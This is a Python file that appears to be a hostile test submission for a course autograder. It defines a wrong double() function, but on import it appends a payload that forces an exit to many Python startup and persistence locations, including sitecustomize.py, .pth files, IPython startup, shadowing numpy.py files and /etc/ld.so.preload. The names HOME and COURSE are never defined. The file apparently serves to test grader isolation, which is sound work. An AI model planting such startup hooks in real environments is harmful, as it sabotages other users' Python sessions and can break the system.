# double 0: leaves files by which the next student's Python would be another (G5)
import os
import site
import sys

POISON = "import builtins\nbuiltins.poisoned = True\nraise SystemExit\n"
PLACES = [
    os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
    os.path.expanduser("~/.config/matplotlib/matplotlibrc"),
    os.path.join(site.getusersitepackages(), "sitecustomize.py"),
    os.path.join(sys.prefix, "lib/python3.11/site-packages/poison.pth"),
    HOME + "/.ipython/profile_default/startup/00.py",
    HOME + "/.jupyter/jupyter_config.py",
    COURSE + "/build/release/00_tiny/numpy.py",
    COURSE + "/course_utils.py",
    "/course/course_utils/instructors/wire.py",
    "/course/numpy.py",
    "/tmp/numpy.py",
    "numpy.py",
    "/usr/lib/python3/dist-packages/poison.pth",
    "/etc/ld.so.preload",
    "/dev/shm/poison",
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "a") as file:
            file.write(POISON)
    except OSError:
        pass


def double(x):
    return 5.0
